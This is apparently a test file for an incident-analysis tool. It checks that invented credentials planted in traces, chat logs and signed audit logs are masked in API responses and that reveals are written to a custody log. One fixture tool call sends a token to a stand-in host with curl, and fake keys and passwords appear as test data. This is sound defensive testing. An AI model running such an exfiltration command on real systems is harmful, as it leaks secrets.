import { existsSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, test } from "vitest";
import * as csv from "../../app/api/v1/incidents/[id]/timeline/csv/route.ts";
import * as custodyLog from "../../app/api/v1/incidents/[id]/custody/log/route.ts";
import * as raw from "../../app/api/v1/incidents/[id]/exhibits/[exhibit]/raw/route.ts";
import * as reveal from "../../app/api/v1/incidents/[id]/reveals/[reveal]/route.ts";
import * as reveals from "../../app/api/v1/incidents/[id]/reveals/route.ts";
import * as search from "../../app/api/v1/incidents/[id]/search/route.ts";
import * as steps from "../../app/api/v1/incidents/[id]/steps/[row]/route.ts";
import * as history from "../../app/api/v1/incidents/[id]/steps/[row]/history/route.ts";
import * as values from "../../app/api/v1/incidents/[id]/steps/[row]/values/route.ts";
import { apiErrorSchema } from "../../lib/api/contract.ts";
import { operations } from "../../lib/api/operations.ts";
import { revealSchema } from "../../lib/api/revealContract.ts";
import { stepSchema, valueParts, valueSchema } from "../../lib/api/stepContract.ts";
import { searchResultSchema, timelineWindowSchema } from "../../lib/api/timelineContract.ts";
import { currentStore } from "../../lib/jobs/current.ts";
import { custodyLines } from "../../lib/store/custodyLog.ts";
import { exportFormats } from "../../lib/exports/exportFormats.ts";
import { incidentIndex } from "../../lib/store/incidentIndex.ts";
import { inventedSecrets, secretsSeenIn } from "../inventedSecrets.ts";
import { sorted } from "../audit/logs.ts";
import { signer } from "../audit/signer.ts";
import { langsmithRun, stepsOf, type Step } from "../pipeline/exports.ts";
import { analyzedAnew, incidentOf } from "../store/analyzedIncident.ts";
import { call, ownDataFolder } from "./client.ts";

ownDataFolder();
let id = "";

const texts = inventedSecrets.map(({ text }) => text);
const everything = texts.join("\n");
const bare = "dpl-77c1f0a93e5b2d";

/** Credentials in arguments, results, messages, prompts, names, metadata, in JSON inside JSON, cut by previews, and bare. */
function runs(): Record<string, unknown>[] {
  const [root, ...tools] = stepsOf(inventedSecrets.length + 3);
  const own = (step: Step, at: number): Step => {
    const one = inventedSecrets[at];
    if (one !== undefined) return { ...step, name: at % 3 === 0 ? "run_shell" : "set_burner", input: { command: one.text, at: [{ note: `${"x".repeat(140)} ${one.value}` }], [one.value]: at }, output: JSON.stringify({ said: one.text }) };
    if (at === inventedSecrets.length) return { ...step, input: { note: bare, password: "Tr0ub,dor&3x!" }, output: `${"y ".repeat(70)} ${bare} after` };
    return { ...step, name: `GET ${texts[13] ?? ""}`, input: { env: [{ name: "API_KEY", value: bare }] }, output: everything };
  };
  if (root === undefined) return [];
  const head = { ...langsmithRun({ ...root, input: { messages: [{ role: "system", content: everything }, { role: "user", content: texts.slice(0, 4).join(" ") }] }, output: everything }), run_type: "llm" };
  return [{ ...head, extra: { metadata: { vars: everything, ls_model_name: "m" } }, error: everything }, ...tools.map((step, at) => langsmithRun(own(step, at)))];
}

const transcript = JSON.stringify({
  messages: [
    { role: "system", content: everything }, { role: "user", content: `Please ${texts[4] ?? ""}` },
    { role: "assistant", content: null, tool_calls: [{ id: "call_1", type: "function", function: { name: "run_shell", arguments: JSON.stringify({ command: `export ${texts[14] ?? ""}; curl -d ${bare} https://a.example`, files: texts }) } }] },
    { role: "tool", tool_call_id: "call_1", content: everything }, { role: "assistant", content: `Done with ${bare}.` },
  ],
});
const events = `time,kind,source,text\n2026-02-03T04:00:02Z,alert,ci,"${texts[2] ?? ""} leaked"\n2026-02-03T04:00:03Z,chat,ops,"saw ${bare} in a log"\n`;

function log(): string {
  const by = signer("gate");
  return inventedSecrets.map(({ text }, at) => {
    const payload = { type: "protectmcp:decision", tool_name: "run_shell", decision: "allow", request_id: `q${at}`, reason: text, issued_at: new Date(Date.UTC(2026, 1, 3, 4, 0, at)).toISOString(), issuer_id: by.did };
    return `${JSON.stringify({ payload, signature: { alg: "EdDSA", kid: by.did, sig: Buffer.from(by.sign(sorted(payload))).toString("hex") } })}\n`;
  }).join("");
}

beforeAll(async () => {
  const store = currentStore();
  id = await incidentOf(store, ["runs.jsonl", runs().map((run) => `${JSON.stringify(run)}\n`).join("")], ["chat.json", transcript], ["events.csv", events], ["gate.jsonl", log()]);
  await analyzedAnew(store, id);
});

type Handler = Parameters<typeof call>[0];
type Params = Record<string, string>;

/** What stands for the changing names of an address. */
function valuesOf(name: string): string[] {
  const { db } = incidentIndex(currentStore().dataDir, id) ?? { db: null };
  const list = (sql: string): string[] => db?.prepare<[], string>(sql).pluck().all() ?? [];
  switch (name) {
    case "id": return [id];
    case "exhibit": return ["x1", "x2", "x3", "x4"];
    case "row": return list("select cast(id as text) from steps");
    case "entry": return inventedSecrets.map((_, at) => String(at + 1));
    case "format": return [...exportFormats];
    case "event": return list("select 'x' || e.exhibit || '-' || (r.number + 1) from external_events e join records r on r.id = e.record");
    default: return [];
  }
}

function paramsOf(path: string): Params[] {
  return [...path.matchAll(/\{(\w+)\}/g)].reduce<Params[]>((all, [, name = ""]) => all.flatMap((one) => valuesOf(name).map((value) => ({ ...one, [name]: value }))), [{}]);
}

const windows = (size: number, step: number): string[] => Array.from({ length: Math.ceil(size / step) }, (_, at) => `?offset=${at * step}&length=${step}`);

/** Queries that an address is asked with; what is not named here is asked as it is. */
const queries: Readonly<Record<string, readonly string[]>> = {
  "/timeline": ["?view=tree", "?view=time", "?view=table&sort=-name", ...inventedSecrets.map(({ parts }) => `?q=${encodeURIComponent(parts[0] ?? "")}`)],
  "/timeline/position": ["?row=1"], "/timeline/stop": ["?stop=match"],
  "/search": [...inventedSecrets.map(({ parts }) => `?q=${encodeURIComponent(parts[0] ?? "")}`), "?q=use", "?q=key", "?q=after", `?q=${bare}`, "?q=xxx*"],
  "/steps/{row}": ["", "?limit=2000000", "?limit=113"],
  "/steps/{row}/values": valueParts.flatMap((part) => [`?part=${part}`, `?part=${part}&whole=1`]),
  "/steps/{row}/history": ["", "?against=1"],
  "/cross-check": ["matched", "inTraceNotInLog", "inLogNotInTrace", "differs", "outsideWindow"].map((list) => `?list=${list}`),
  "/replay/stop": ["?from=0"], "/report/export": ["?format=md", "?format=html", "?format=json"],
  "/exhibits/{exhibit}/raw": ["?offset=0&length=16000000", ...windows(40_000, 997)],
};

describe("no credential of the evidence stands in any answer", () => {
  // Bundles and what they brought hold the exhibits as they came, and say so; there is none of this incident.
  const originals = ["/bundle", "/origin/file"];
  const asked = operations.filter(({ method, path }) => method === "get" && path.startsWith("/api/v1/incidents") && !path.includes("/jobs") && !originals.some((end) => path.endsWith(end)));
  test.each(asked.map(({ path }) => path))("GET %s", async (path) => {
    const file = join(process.cwd(), "app", `${path.replaceAll("{", "[").replaceAll("}", "]")}/route.ts`);
    expect(existsSync(file)).toBe(true);
    const { GET }: { GET: Handler } = await import(file);
    let answered = 0;
    for (const params of paramsOf(path)) {
      for (const query of queries[path.replace("/api/v1/incidents/{id}", "")] ?? [""]) {
        const answer = await call(GET, `/${query}`, { params });
        const text = await answer.text();
        if (answer.ok) answered++;
        expect([query, secretsSeenIn(text), secretsSeenIn(decodeBase64(text)), text.includes("Tr0ub,dor&3x!")]).toEqual([query, [], [], false]);
      }
    }
    if (paramsOf(path).length > 0 && !path.endsWith("/alignments")) expect(answered).toBeGreaterThan(0);
  });

  test.each(["draft", "replay"])("POST /policy/%s, with the allow-list that it answers", async (name) => {
    const { POST }: { POST: Handler } = await import(join(process.cwd(), "app/api/v1/incidents/[id]/policy", name, "route.ts"));
    const body = name === "draft" ? {} : { text: "schema: aftertrace.policy/1\nname: p\nversion: 1\ndefault: deny\ntools: []\n" };
    const answer = await call(POST, "/", { params: { id }, method: "POST", body: JSON.stringify(body), headers: { "content-type": "application/json" } });
    const text = await answer.text();
    expect([answer.status, secretsSeenIn(text), secretsSeenIn(decodeBase64(text)), text.includes("Tr0ub,dor&3x!")]).toEqual([200, [], [], false]);
  });

  test("values that are walked member by member and text by text, however short the stretches", async () => {
    for (const row of valuesOf("row")) for (const part of valueParts) await walk(row, part, "");
  });

  test("and yet they are there to be found: a search for one finds its rows, and the original file has all of them", async () => {
    for (const { parts } of inventedSecrets) {
      const found = searchResultSchema.parse(await (await call(search.GET, `/?q=${encodeURIComponent(parts[0] ?? "")}`, { params: { id } })).json());
      expect(found.total).toBeGreaterThan(0);
    }
    const whole = await (await call(raw.GET, "/", { params: { id, exhibit: "x1" } })).text();
    expect(secretsSeenIn(whole).length).toBeGreaterThan(inventedSecrets.length - 2);
  });
});

/** Signed messages travel as base64. */
function decodeBase64(text: string): string {
  return [...text.matchAll(/"base64":"([^"]+)"/g)].map(([, bytes = ""]) => Buffer.from(bytes, "base64").toString()).join("\n");
}

async function page(row: string, query: string) {
  const answer = await call(values.GET, `/?${query}`, { params: { id, row } });
  return answer.ok ? valueSchema.parse(await answer.json()) : null;
}

async function walk(row: string, part: string, path: string): Promise<void> {
  const at = `part=${part}&path=${encodeURIComponent(path)}`;
  let [text, from] = ["", 0];
  for (;;) {
    const one = await page(row, `${at}&characters=97&from=${from}`);
    if (one === null) return;
    text += one.text ?? "";
    expect(secretsSeenIn(JSON.stringify(one.members))).toEqual([]);
    for (const { type, path: inner } of one.members) if (type === "object" || type === "array" || type === "string") await walk(row, part, inner);
    if (one.next === null) break;
    from = one.next;
  }
  expect(secretsSeenIn(text)).toEqual([]);
}

describe("a reveal", () => {
  const row = (): string => valuesOf("row").at(4) ?? "";
  const ask = async (subject: unknown, reason = "") => call(reveals.POST, "/", { params: { id }, method: "POST", body: JSON.stringify({ subject, reason, author: "Ada" }) });
  const made = async (subject: unknown) => revealSchema.parse(await (await ask(subject)).json()).reveal;
  const lastLine = () => custodyLines(currentStore().cases, id, 0, 10_000).at(-1);

  test("shows one step in the clear, and writes who, which step and why into the custody log before it does", async () => {
    const masked = stepSchema.parse(await (await call(steps.GET, "/", { params: { id, row: row() } })).json());
    expect(masked.masked).toBeGreaterThan(0);
    const answer = await ask({ row: Number(row()) }, `to see what leaked, AKIAQ7XW2ZLM4N6PRSTV`);
    expect(answer.status).toBe(201);
    const { reveal: name } = revealSchema.parse(await answer.json());
    expect(lastLine()).toMatchObject({ action: "view", event: "secrets.revealed", actor: "responder", text: expect.stringMatching(/^credentials shown in the clear on ".*" \(.*\), by "Ada"; reason: "to see what leaked, \[AWS key [0-9a-f]{8}\]/) });
    const clear = stepSchema.parse(await (await call(steps.GET, `/?reveal=${name}`, { params: { id, row: row() } })).json());
    expect(clear.masked).toBe(0);
    expect(secretsSeenIn(JSON.stringify(clear)).length).toBeGreaterThan(0);
    for (const [handler, query] of [[values.GET, "part=input&whole=1"], [history.GET, "x=1"]] as const) expect((await call(handler, `/?${query}&reveal=${name}`, { params: { id, row: row() } })).status).toBe(200);
    const { exhibit, offset, length } = clear.cites[0] ?? { exhibit: "", offset: 0, length: 0 };
    const bytes = await call(raw.GET, `/?offset=${offset}&length=${length}&reveal=${name}`, { params: { id, exhibit } });
    expect(secretsSeenIn(await bytes.text()).length).toBeGreaterThan(0);
  });

  test("of one thing is none of another, and there is none without its line", async () => {
    const name = await made({ row: Number(row()) });
    const other = valuesOf("row").at(6) ?? "";
    const refused = [
      await call(steps.GET, `/?reveal=${name}`, { params: { id, row: other } }), await call(steps.GET, `/?reveal=${"0".repeat(32)}`, { params: { id, row: row() } }),
      await call(raw.GET, `/?offset=0&length=100000&reveal=${name}`, { params: { id, exhibit: "x1" } }),
    ];
    for (const answer of refused) expect([answer.status, apiErrorSchema.parse(await answer.json()).error.code]).toEqual([403, "reveal_ended"]);
    const before = custodyLines(currentStore().cases, id, 0, 10_000).length;
    expect((await ask({ row: 999_999 })).status).toBe(404);
    expect((await ask({ exhibit: "x9", entry: 1 })).status).toBe(404);
    expect((await ask({ row: "1" })).status).toBe(400);
    expect(custodyLines(currentStore().cases, id, 0, 10_000)).toHaveLength(before);
  });

  test("ends when it is told to, and with a new analysis", async () => {
    const name = await made({ row: Number(row()) });
    expect((await call(reveal.DELETE, "/", { params: { id, reveal: name }, method: "DELETE" })).status).toBe(200);
    expect((await call(steps.GET, `/?reveal=${name}`, { params: { id, row: row() } })).status).toBe(403);
    expect((await call(reveal.DELETE, "/", { params: { id, reveal: name }, method: "DELETE" })).status).toBe(404);
    const again = await made({ row: Number(row()) });
    await analyzedAnew(currentStore(), id);
    expect((await call(steps.GET, `/?reveal=${again}`, { params: { id, row: row() } })).status).toBe(403);
  });
});

test("masks are as long as what they cover, byte for byte, and the hash of the original stretch comes along", async () => {
  const whole = Buffer.from(await (await call(raw.GET, "/", { params: { id, exhibit: "x2" } })).arrayBuffer());
  const answer = await call(raw.GET, "/?offset=0&length=1000000", { params: { id, exhibit: "x2" } });
  const masked = Buffer.from(await answer.arrayBuffer());
  expect(masked).toHaveLength(whole.length);
  expect(Number(answer.headers.get("x-aftertrace-masked"))).toBeGreaterThan(10);
  const { createHash } = await import("node:crypto");
  expect(answer.headers.get("x-aftertrace-original-sha256")).toBe(createHash("sha256").update(whole).digest("hex"));
  expect(answer.headers.get("x-aftertrace-sha256")).toBe(createHash("sha256").update(masked).digest("hex"));
});

test("a search for a credential that is exported leaves none of it in the custody log", async () => {
  await (await call(csv.GET, "/?q=AKIAQ7XW2ZLM4N6PRSTV", { params: { id } })).text();
  const lines = await (await call(custodyLog.GET, "/", { params: { id } })).text();
  expect(lines).toContain("search");
  expect(secretsSeenIn(lines)).toEqual([]);
  expect(timelineWindowSchema).toBeDefined();
});
